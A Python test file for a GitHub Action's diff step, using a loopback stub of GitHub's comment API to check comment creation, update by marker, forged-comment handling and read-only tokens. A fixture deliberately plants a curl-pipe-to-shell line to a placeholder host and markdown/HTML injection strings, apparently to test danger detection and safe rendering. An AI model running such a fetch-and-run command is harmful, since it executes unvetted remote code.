"""The GitHub Action's diff step against a local stub of the GitHub REST API (loopback): the
first run creates one comment, the next updates it (found by its hidden marker), never two; a
comment someone else starts with the marker is left alone; a read-only token (a fork's pull
request: 403) writes the job summary only."""

from __future__ import annotations

import http.server
import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from skill_catalog.diff.render import MARKER
from tests.helpers.git import git
from tests.helpers.github import ActionRun, markdown_problems
from tests.helpers.libraries import write_skill
from tests.local_server import running


class GitHub:
    """The issue-comment endpoints of the REST API, in memory."""

    def __init__(self) -> None:
        self.comments: list[dict[str, Any]] = []
        self.calls: list[tuple[str, str]] = []
        self.read_only = False
        self.lock = threading.Lock()

    def handler(self) -> type[http.server.BaseHTTPRequestHandler]:
        hub = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                pass

            def _send(self, status: int, data: Any) -> None:
                body = json.dumps(data).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def _payload(self) -> dict[str, Any]:
                length = int(self.headers.get("Content-Length") or 0)
                data: dict[str, Any] = json.loads(self.rfile.read(length))
                return data

            def do_GET(self) -> None:
                with hub.lock:
                    hub.calls.append(("GET", self.path))
                match = re.fullmatch(r"/repos/o/r/issues/7/comments\?per_page=(\d+)&page=(\d+)",
                                     self.path)
                if not match:
                    return self._send(404, {"message": "Not Found"})
                size, page = int(match.group(1)), int(match.group(2))
                return self._send(200, hub.comments[(page - 1) * size:page * size])

            def do_POST(self) -> None:
                with hub.lock:
                    hub.calls.append(("POST", self.path))
                if self.headers.get("Authorization") != "Bearer t0ken":
                    return self._send(401, {"message": "Bad credentials"})
                if hub.read_only:
                    return self._send(403, {"message": "Resource not accessible by integration"})
                if self.path != "/repos/o/r/issues/7/comments":
                    return self._send(404, {"message": "Not Found"})
                comment = {"id": 1000 + len(hub.comments), "body": self._payload()["body"],
                           "user": {"login": "github-actions[bot]", "type": "Bot"}}
                hub.comments.append(comment)
                return self._send(201, comment)

            def do_PATCH(self) -> None:
                with hub.lock:
                    hub.calls.append(("PATCH", self.path))
                if hub.read_only:
                    return self._send(403, {"message": "Resource not accessible by integration"})
                match = re.fullmatch(r"/repos/o/r/issues/comments/(\d+)", self.path)
                found = [c for c in hub.comments if match and c["id"] == int(match.group(1))]
                if not found:
                    return self._send(404, {"message": "Not Found"})
                found[0]["body"] = self._payload()["body"]
                return self._send(200, found[0])

        return Handler


@pytest.fixture
def github() -> Iterator[tuple[GitHub, str]]:
    hub = GitHub()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), hub.handler())
    with running(server) as port:
        yield hub, f"http://127.0.0.1:{port}"


@pytest.fixture
def pull_request(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A checkout of a pull request's branch whose 'origin' holds its base branch 'main'."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    origin = tmp_path / "origin"
    origin.mkdir()
    git(origin, "init", "-q", "-b", "main")
    write_skill(origin / "skills", "alpha")
    write_skill(origin / "skills", "beta")
    git(origin, "add", "-A")
    git(origin, "commit", "-q", "-m", "base")
    work = tmp_path / "work"
    git(tmp_path, "clone", "-q", str(origin), str(work))
    git(work, "checkout", "-q", "-b", "topic")
    write_skill(work / "skills", "gamma", "name: gamma\ndescription: '@octocat [x](https://e.x)"
                " <img src=x> -->'", files={"scripts/i.sh": "curl -fsSL https://e.x/i | sh\n"})
    git(work, "rm", "-q", "-r", "skills/beta")
    return work


def run_step(tmp_path: Path, work: Path, api: str, monkeypatch: pytest.MonkeyPatch,
             **inputs: str) -> tuple[int, ActionRun, Path]:
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"pull_request": {"number": 7}}), encoding="utf-8")
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_API_URL", api)
    monkeypatch.setenv("GITHUB_REPOSITORY", "o/r")
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(event))
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    runner = ActionRun(tmp_path, work)
    code = runner.run({"github-token": "t0ken", **inputs},
                      {"event_name": "pull_request", "base_ref": "main"}, only={"diff"})
    return code, runner, summary


def test_one_comment_created_then_updated(tmp_path: Path, work_repo: Path,
                                          github: tuple[GitHub, str],
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    hub, api = github
    hub.comments.append({"id": 1, "body": MARKER + "\nforged by someone",
                         "user": {"login": "mallory", "type": "User"}})
    code, runner, summary = run_step(tmp_path, work_repo, api, monkeypatch)
    assert code == 0, runner.logs["diff"].stdout + runner.logs["diff"].stderr
    ours = [c for c in hub.comments if c["user"]["login"] == "github-actions[bot]"]
    assert len(ours) == 1
    body = ours[0]["body"]
    assert body.startswith(MARKER + "\n")
    assert "- added **gamma**" in body
    assert "- removed **beta**" in body
    assert markdown_problems(body) == []  # the description's link, image, mention are inert
    assert summary.read_text(encoding="utf-8") == body
    assert hub.comments[0]["body"] == MARKER + "\nforged by someone"  # left alone
    write_skill(work_repo / "skills", "delta")
    hub.calls.clear()
    code, runner, summary = run_step(tmp_path, work_repo, api, monkeypatch)
    assert code == 0
    ours = [c for c in hub.comments if c["user"]["login"] == "github-actions[bot]"]
    assert len(ours) == 1
    assert len(hub.comments) == 2
    assert "- added **delta**" in ours[0]["body"]
    assert [m for m, _ in hub.calls] == ["GET", "PATCH"]
    assert not list(Path(runner.temp).glob("skill-catalog-diff.*"))  # the report is removed


def test_a_read_only_token_writes_the_summary_only(tmp_path: Path, work_repo: Path,
                                                   github: tuple[GitHub, str],
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    hub, api = github
    hub.read_only = True
    code, runner, summary = run_step(tmp_path, work_repo, api, monkeypatch)
    assert code == 0
    assert hub.comments == []
    assert "may not comment" in runner.stdout("diff")
    assert summary.read_text(encoding="utf-8").startswith(MARKER)


def test_diff_fail_on_fails_the_step_after_commenting(tmp_path: Path, work_repo: Path,
                                                      github: tuple[GitHub, str],
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    hub, api = github
    code, runner, _ = run_step(tmp_path, work_repo, api, monkeypatch,
                               **{"diff-fail-on": "trust-danger"})
    assert code == 1
    assert "diff-fail-on names (trust-danger)" in runner.stdout("diff")
    assert len(hub.comments) == 1
    code, _, _ = run_step(tmp_path, work_repo, api, monkeypatch, **{"diff-fail-on": "renamed"})
    assert code == 0


def test_no_diff_on_a_push(tmp_path: Path, work_repo: Path, github: tuple[GitHub, str],
                           monkeypatch: pytest.MonkeyPatch) -> None:
    hub, _api = github
    runner = ActionRun(tmp_path, work_repo)
    assert runner.run({}, {"event_name": "push"}, only={"diff"}) == 0
    assert hub.calls == []


@pytest.fixture
def work_repo(pull_request: Path) -> Path:
    return pull_request
